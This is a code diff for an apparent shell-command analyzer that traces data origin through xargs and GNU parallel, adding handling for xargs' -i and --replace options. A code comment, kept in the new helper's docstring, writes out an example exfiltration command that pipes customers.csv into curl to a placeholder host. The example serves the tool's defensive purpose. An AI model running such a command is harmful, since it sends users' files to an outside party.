@@ -129,6 +129,8 @@ def _xargs(call: _Call) -> None:
     replace_strings = parsed.values("-I") + [
         w.tail(2) for w in call.args if w.value.startswith("-I") and len(w.value) > 2
     ]
+    options = call.args[: len(call.args) - len(parsed.operands)]
+    replace_strings += [_replace_string(w) for w in options if _REPLACE.match(w.value)]
     items = _literal_items(call.feed, lines=bool(replace_strings))
     if items is not None and not parsed.has("-0", "--null", "-d", "--delimiter", "-a"):
         # `printf '%s\n' orders customers | xargs -I{} psql -c "... {}"`: each run is read
@@ -151,36 +153,50 @@ def _xargs(call: _Call) -> None:
             call, argv if marker else [*inner, kept], feed=None, transparent=True
         )
         return
-    # The words xargs places come from stdin: where those bytes come from goes with them
-    # (`cat customers.csv | xargs -I{} curl "https://x/?d={}"` sends the file).
-    origin = call.feed.origin if call.feed else _Origin.NONE
-    source = call.feed.description if call.feed else ""
     for replace_string in replace_strings:
-        marker = replace_string.value
-        inner = [
-            _Word(
-                word.value.replace(marker, EXPANSION_PLACEHOLDER),
-                word.display,
-                dynamic=True,
-                origin=origin,
-                source=source,
-                expansions=("{xargs input}",),
-            )
-            if marker and marker in word.value
-            else word
-            for word in inner
-        ]
+        inner = _placed(inner, replace_string.value, call.feed, "{xargs input}")
     # The words xargs appends: unknown, and possibly many.
-    appended = _Word(
-        EXPANSION_PLACEHOLDER,
-        "{xargs input}",
-        dynamic=True,
-        glob=True,
-        origin=origin,
-        source=source,
-        expansions=("{xargs input}",),
-    )
-    call.analyzer.run_inner(call, [*inner, appended], feed=None, transparent=True)
+    appended = _placed([], "", call.feed, "{xargs input}")
+    call.analyzer.run_inner(call, [*inner, *appended], feed=None, transparent=True)
+
+
+# GNU xargs' other spellings of -I: -i and --replace, whose string is {} unless attached
+_REPLACE = re.compile(r"^(?:-i|--replace)(?:$|=|(?<=-i).)")
+
+
+def _replace_string(option: _Word) -> _Word:
+    """``-i`` and ``--replace`` are ``-I {}``; ``-iSTR`` and ``--replace=STR`` are ``-I STR``."""
+    if option.value in ("-i", "--replace"):
+        return _Word.literal("{}")
+    return option.after("=") if option.value.startswith("--") else option.tail(2)
+
+
+def _placed(
+    words: Sequence[_Word], marker: str, feed: _Feed | None, label: str, *, many: bool = False
+) -> list[_Word]:
+    """The words xargs or parallel place from stdin (at ``marker``, or one appended when it
+    is empty): where those bytes come from goes with them (`cat customers.csv | xargs -I{}
+    curl "https://x/?d={}"` sends the file). ``many``: each stands for every input line (a
+    glob), as parallel runs the command once per line."""
+    origin = feed.origin if feed else _Origin.NONE
+    source = feed.description if feed else ""
+    if not marker:
+        words = [_Word(EXPANSION_PLACEHOLDER, label, glob=True)]
+        marker = EXPANSION_PLACEHOLDER
+    return [
+        _Word(
+            word.value.replace(marker, EXPANSION_PLACEHOLDER),
+            word.display,
+            dynamic=True,
+            glob=word.glob or many,
+            origin=origin,
+            source=source,
+            expansions=(label,),
+        )
+        if marker in word.value
+        else word
+        for word in words
+    ]
 
 
 def _scoped(feed: _Feed | None) -> _Word | None:
@@ -237,17 +253,13 @@ def _parallel(call: _Call) -> None:
         placed = [scoped if word.value == "{}" else word for word in command]
         argv = placed if any(word.value == "{}" for word in command) else [*command, scoped]
         call.analyzer.run_inner(call, argv, feed=None, transparent=True)
-    elif command:
-        appended = _Word(
-            EXPANSION_PLACEHOLDER,
-            "{parallel input}",
-            dynamic=True,
-            glob=True,
-            expansions=("{parallel input}",),
-        )
-        call.analyzer.run_inner(
-            call, [*command, *(inputs or [appended])], feed=None, transparent=True
-        )
+    elif command and inputs:
+        call.analyzer.run_inner(call, [*command, *inputs], feed=None, transparent=True)
+    elif command:  # each line of stdin is placed at {} (or appended): it goes where they go
+        label = "{parallel input}"
+        placed = _placed(command, "{}", call.feed, label, many=True)
+        appended = [] if placed != command else _placed([], "", call.feed, label, many=True)
+        call.analyzer.run_inner(call, [*placed, *appended], feed=None, transparent=True)
     else:
         for script in inputs:
             _script(call, script, "parallel")
